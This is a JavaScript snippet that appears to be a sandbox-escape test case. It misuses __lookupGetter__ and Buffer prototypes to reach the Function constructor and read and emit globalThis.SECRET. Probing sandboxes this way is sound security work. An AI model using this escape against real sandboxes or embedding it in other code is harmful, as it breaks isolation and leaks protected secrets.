const got = Buffer.apply.apply({}.__lookupGetter__, [Buffer, ['__proto__']]);
const up = typeof got === 'function' ? got : () => null;
const dig = (value, depth) => {
  if (value === null || depth > 3) return;
  if (typeof value === 'function' && value.name === 'Function') {
    const secret = value('return globalThis.SECRET')();
    if (secret) emit(secret);
  } else if (typeof value === 'object') {
    for (const key of ['constructor', 'value', 0, 1]) dig(value[key], depth + 1);
  }
};
at_step();
let top = Buffer.of();  // step
for (let step = 0; step < 4 && up.call(top); step += 1) top = up.call(top);  // step
const kind = top.constructor;  // step
const target = up.call(Buffer.from) || Buffer.from;  // step
for (const name of ['getOwnPropertyDescriptor', 'getOwnPropertyDescriptors']) {  // step
  if (typeof kind[name] === 'function') {  // step
    const part = kind[name](target, 'constructor');  // step
    if (part) for (const own of [part, kind.entries(part)]) dig(own, 0);  // step
  }  // step
}  // step
past_step();
